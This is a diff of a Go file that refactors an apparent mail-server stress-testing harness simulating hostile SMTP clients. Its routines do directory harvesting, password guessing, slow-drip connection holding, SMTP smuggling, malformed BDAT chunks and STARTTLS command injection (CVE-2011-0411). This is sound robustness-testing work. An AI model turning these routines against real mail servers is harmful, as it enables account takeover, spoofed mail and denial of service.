@@ -1,28 +1,52 @@
-package swarm
+package talk
 
 import (
 	"errors"
 	"fmt"
+	"math/rand/v2"
 	"net"
 	"strings"
 	"time"
 )
 
-// The acts of hostile families. Each returns how the conversation broke off,
-// and records what it got in the session.
+// Target is what a hostile conversation needs to know.
+type Target struct {
+	Name    string   // the server's
+	Domain  string   // of its recipients
+	Mailbox []string // local parts that exist
+	Guess   func(*rand.Rand) string
+	Form    string // which of an act's forms
+	Mails   []*Mail
+}
 
-// spam sends messages as the family's dialect has it.
-func spam(c *client, b *bot) error { return c.converse(b.mails) }
+// Act is one way to be hostile. It returns how the conversation broke off, and
+// records what it got in the session.
+type Act func(*Client, *Target) error
 
-// idle reads the greeting and waits.
-func idle(c *client, _ *bot) error {
+// The forms of acts that have several.
+var (
+	JunkForms   = []string{"http-get", "http-post", "http-connect", "tls-hello", "ssh", "random-bytes", "nul-bytes", "long-line", "sip", "redis", "rdp", "socks5"}
+	Smuggles    = []string{"\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r.\r\n", "\r\n.\r", "\n.\r", "\r.\n", "\r\n\x00.\r\n", "\r\n.\x00\r\n", "\r\r\n.\r\r\n"}
+	ChunkForms  = []string{"unasked", "overflow", "negative", "huge", "mixed", "long-s", "empty-storm", "short", "no-number", "after-data"}
+	InjectForms = []string{"RSET", "NOOP", "EHLO", "MAIL", "bare-lf", "QUIT"}
+	DripForms   = []string{"octet", "endless-line", "noop", "empty-lines", "header", "ehlo-storm"}
+)
+
+// one picks from a list.
+func (c *Client) one(list []string) string { return list[c.rng.IntN(len(list))] }
+
+// Spam sends messages as the family's dialect has it.
+func Spam(c *Client, t *Target) error { return c.Converse(t.Mails) }
+
+// Idle reads the greeting and waits.
+func Idle(c *Client, _ *Target) error {
 	c.s.reach("greeting")
 	return c.hold("greeting")
 }
 
-// harvest tries n names from a dictionary.
-func harvest(n int) func(*client, *bot) error {
-	return func(c *client, b *bot) error {
+// Harvest tries n names from a dictionary.
+func Harvest(n int) func(*Client, *Target) error {
+	return func(c *Client, t *Target) error {
 		if c.d.Pipeline == "blast" || c.d.Pipeline == "always" {
 			c.d.Pipeline = "never" // it wants each answer
 		}
@@ -32,7 +56,7 @@ func harvest(n int) func(*client, *bot) error {
 		err := c.open()
 		if err == nil {
 			var rep Reply
-			if rep, _, err = c.ask("mail", fmt.Sprintf(c.d.Mail, b.mails[0].from)); err == nil && rep.refusal() && c.d.Refused == "obey" {
+			if rep, _, err = c.ask("mail", fmt.Sprintf(c.d.Mail, t.Mails[0].From)); err == nil && rep.refusal() && c.d.Refused == "obey" {
 				err = errRefused
 			}
 		}
@@ -41,12 +65,12 @@ func harvest(n int) func(*client, *bot) error {
 			if err != nil {
 				break
 			}
-			name := guessed(c.rng)
+			name := t.Guess(c.rng)
 			if c.rng.IntN(20) == 0 {
-				name = one(c.rng, b.p.cfg.Mailbox)
+				name = c.one(t.Mailbox)
 			}
 			var rep Reply
-			if rep, _, err = c.ask("rcpt", fmt.Sprintf(c.d.Rcpt, name+"@"+b.p.cfg.Domain)); err == nil && rep.Code/100 == 2 {
+			if rep, _, err = c.ask("rcpt", fmt.Sprintf(c.d.Rcpt, name+"@"+t.Domain)); err == nil && rep.Code/100 == 2 {
 				hits++
 			}
 		}
@@ -60,24 +84,24 @@ func harvest(n int) func(*client, *bot) error {
 	}
 }
 
-// guess tries n passwords: of one account, or of another one each time.
-func guess(n int, many bool) func(*client, *bot) error {
-	return func(c *client, b *bot) error {
+// Guess tries n passwords: of one account, or of another one each time.
+func Guess(n int, many bool) func(*Client, *Target) error {
+	return func(c *Client, t *Target) error {
 		if c.d.Pipeline == "blast" {
 			c.d.Pipeline = "never"
 		}
 		c.d.TLS = true
 		err := c.open()
-		user := one(c.rng, b.p.cfg.Mailbox) + "@" + b.p.cfg.Domain
+		user := c.one(t.Mailbox) + "@" + t.Domain
 		for range n {
 			if err != nil {
 				break
 			}
 			if many {
-				user = one(c.rng, b.p.cfg.Mailbox) + "@" + b.p.cfg.Domain
+				user = c.one(t.Mailbox) + "@" + t.Domain
 			}
 			var rep Reply
-			rep, err = c.try(account{user, word(c.rng, 6) + fmt.Sprint(c.rng.IntN(1000))}, c.rng.IntN(2) == 0)
+			rep, err = c.try(Account{user, fmt.Sprintf("%x", c.rng.Uint32())}, c.rng.IntN(2) == 0)
 			if rep.Code == 235 {
 				c.s.Breach = "login"
 			}
@@ -89,17 +113,17 @@ func guess(n int, many bool) func(*client, *bot) error {
 	}
 }
 
-// talkJunk speaks another protocol at once, then waits for what comes.
-func talkJunk(c *client, b *bot) error {
+// Junk speaks another protocol at once, then waits for what comes.
+func Junk(c *Client, t *Target) error {
 	c.s.reach("greeting")
 	random := make([]byte, 600)
 	for i := range random {
 		random[i] = byte(c.rng.Uint32())
 	}
 	what := map[string]string{
-		"http-get":     "GET / HTTP/1.1\r\nHost: " + b.p.cfg.Name + "\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
-		"http-post":    "POST /login HTTP/1.1\r\nHost: " + b.p.cfg.Name + "\r\nContent-Length: 60\r\n\r\nHELO a\r\nMAIL FROM:<a@b.swarm>\r\nRCPT TO:<c@d.swarm>\r\nDATA\r\n",
-		"http-connect": "CONNECT " + b.p.cfg.Name + ":25 HTTP/1.0\r\n\r\n",
+		"http-get":     "GET / HTTP/1.1\r\nHost: " + t.Name + "\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
+		"http-post":    "POST /login HTTP/1.1\r\nHost: " + t.Name + "\r\nContent-Length: 60\r\n\r\nHELO a\r\nMAIL FROM:<a@b.swarm>\r\nRCPT TO:<c@d.swarm>\r\nDATA\r\n",
+		"http-connect": "CONNECT " + t.Name + ":25 HTTP/1.0\r\n\r\n",
 		"tls-hello":    "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + string(random[:500]),
 		"ssh":          "SSH-2.0-Go\r\n",
 		"random-bytes": string(random),
@@ -109,38 +133,38 @@ func talkJunk(c *client, b *bot) error {
 		"redis":        "*1\r\n$4\r\nINFO\r\n",
 		"rdp":          "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",
 		"socks5":       "\x05\x01\x00",
-	}[b.f.Form]
+	}[t.Form]
 	if err := c.raw([]byte(what), 0, 0); err != nil {
 		return err
 	}
 	return c.hold("helo")
 }
 
-// unread asks without reading until the server stops taking it.
-func unread(c *client, _ *bot) error {
-	if t, ok := c.conn.(*net.TCPConn); ok {
-		_ = t.SetReadBuffer(4096)
+// Unread asks without reading until the server stops taking it.
+func Unread(c *Client, _ *Target) error {
+	if tcp, ok := c.conn.(*net.TCPConn); ok {
+		_ = tcp.SetReadBuffer(4096)
 	}
 	c.d.Gap = min(c.d.Gap, 15*time.Millisecond)
 	if err := c.greeting(); err != nil {
 		return err
 	}
 	for n := 0; n < 20_000; n++ {
-		if err := c.send("helo", c.d.line(c.d.verb("EHLO")+" "+c.s.Helo)); err != nil {
+		if err := c.send("helo", c.d.line(c.d.Verb("EHLO")+" "+c.s.Helo)); err != nil {
 			return err
 		}
 	}
 	return c.hold("helo")
 }
 
-// drip keeps the server waiting for more.
-func drip(c *client, b *bot) error {
+// Drip keeps the server waiting for more.
+func Drip(c *Client, t *Target) error {
 	c.d.Segment, c.d.Gap, c.d.Wait = 0, 0, "220"
 	if err := c.greeting(); err != nil {
 		return err
 	}
 	what, n, pause := strings.Repeat("x", 1<<16), 1, 200*time.Millisecond
-	switch b.f.Form {
+	switch t.Form {
 	case "octet":
 		what = "EHLO " + what[:60] + "\r\n" + what
 	case "endless-line":
@@ -155,7 +179,7 @@ func drip(c *client, b *bot) error {
 		if err := c.hello(); err != nil {
 			return err
 		}
-		for _, l := range []string{"mail " + fmt.Sprintf(c.d.Mail, b.mails[0].from), "rcpt " + fmt.Sprintf(c.d.Rcpt, b.mails[0].rcpts[0].addr), "data DATA"} {
+		for _, l := range []string{"mail " + fmt.Sprintf(c.d.Mail, t.Mails[0].From), "rcpt " + fmt.Sprintf(c.d.Rcpt, t.Mails[0].Rcpts[0].Addr), "data DATA"} {
 			phase, line, _ := strings.Cut(l, " ")
 			rep, _, err := c.ask(phase, line)
 			if err != nil || rep.refusal() {
@@ -176,18 +200,18 @@ func drip(c *client, b *bot) error {
 	return c.hold("helo")
 }
 
-// smuggle hides a second transaction behind something that isn't the end of
+// Smuggle hides a second transaction behind something that isn't the end of
 // data.
-func smuggle(c *client, b *bot) error {
-	m := b.mails[0]
+func Smuggle(c *Client, t *Target) error {
+	m := t.Mails[0]
 	if err := c.open(); err != nil {
 		if errors.Is(err, errRefused) {
 			return c.quit()
 		}
 		return err
 	}
-	who := m.pending()
-	taken, data, err := c.run(m, append(c.envelope(m, who), step{phase: "data", line: c.d.verb("DATA")}), false, false)
+	who := m.Pending()
+	taken, data, err := c.run(m, append(c.envelope(m, who), step{phase: "data", line: c.d.Verb("DATA")}), false, false)
 	if err != nil || !data {
 		if err == nil {
 			err = c.quit()
@@ -195,8 +219,8 @@ func smuggle(c *client, b *bot) error {
 		return err
 	}
 	second := fmt.Sprintf("MAIL FROM:<admin@%s>\r\nRCPT TO:<%s>\r\nDATA\r\nFrom: admin@%s\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n",
-		b.p.cfg.Domain, m.rcpts[taken[0]].addr, b.p.cfg.Domain)
-	if err := c.send("dot", string(m.body)+"smuggled below"+b.f.Form+second); err != nil {
+		t.Domain, m.Rcpts[taken[0]].Addr, t.Domain)
+	if err := c.send("dot", string(m.Body)+"smuggled below"+t.Form+second); err != nil {
 		_, _, err = c.last("dot", err)
 		return err
 	}
@@ -211,13 +235,13 @@ func smuggle(c *client, b *bot) error {
 	return err
 }
 
-// abuseBDAT sends BDAT as no client would.
-func abuseBDAT(c *client, b *bot) error {
+// AbuseBDAT sends BDAT as no client would.
+func AbuseBDAT(c *Client, t *Target) error {
 	c.d.Pipeline, c.d.Reset = "never", ""
 	err := c.open()
-	if err == nil && b.f.Form != "unasked" {
-		m := b.mails[0]
-		for _, s := range c.envelope(m, m.pending()) {
+	if err == nil && t.Form != "unasked" {
+		m := t.Mails[0]
+		for _, s := range c.envelope(m, m.Pending()) {
 			if _, _, err = c.ask(s.phase, s.line); err != nil {
 				return err
 			}
@@ -239,9 +263,9 @@ func abuseBDAT(c *client, b *bot) error {
 		"short":      {"BDAT 1000 LAST\r\nonly this"},
 		"no-number":  {"BDAT LAST\r\n"},
 		"after-data": {"DATA\r\n", "BDAT 5 LAST\r\nabcde\r\n.\r\n"},
-	}[b.f.Form]
+	}[t.Form]
 	for range 500 {
-		if b.f.Form == "empty-storm" {
+		if t.Form == "empty-storm" {
 			lines = append(lines, "BDAT 0\r\n")
 		}
 	}
@@ -255,16 +279,16 @@ func abuseBDAT(c *client, b *bot) error {
 		if err != nil {
 			return err
 		}
-		if b.f.Form == "after-data" && rep.Code/100 == 2 {
+		if t.Form == "after-data" && rep.Code/100 == 2 {
 			c.s.Breach = "chunk"
 		}
 	}
 	return c.quit()
 }
 
-// inject puts a command behind STARTTLS in the same write, to be executed inside
+// Inject puts a command behind STARTTLS in the same write, to be executed inside
 // TLS by a server that keeps its buffer (CVE-2011-0411).
-func inject(c *client, b *bot) error {
+func Inject(c *Client, t *Target) error {
 	c.d.Pipeline, c.d.TLS, c.d.Wait = "never", false, "220"
 	if err := c.open(); err != nil {
 		if errors.Is(err, errRefused) {
@@ -273,16 +297,16 @@ func inject(c *client, b *bot) error {
 		return err
 	}
 	end := "\r\n"
-	command := b.f.Form
+	command := t.Form
 	switch command {
 	case "EHLO":
 		command += " injected.swarm"
 	case "MAIL":
-		command += " FROM:<injected@" + b.p.cfg.Domain + ">"
+		command += " FROM:<injected@" + t.Domain + ">"
 	case "bare-lf":
 		end, command = "\n", "NOOP"
 	}
-	if err := c.send("tls", c.d.verb("STARTTLS")+end+command+end); err != nil {
+	if err := c.send("tls", c.d.Verb("STARTTLS")+end+command+end); err != nil {
 		_, _, err = c.last("tls", err)
 		return err
 	}
@@ -307,7 +331,7 @@ func inject(c *client, b *bot) error {
 			return err
 		}
 	}
-	for _, m := range b.mails {
+	for _, m := range t.Mails {
 		if err := c.transaction(m, true); err != nil {
 			if errors.Is(err, errRefused) {
 				break
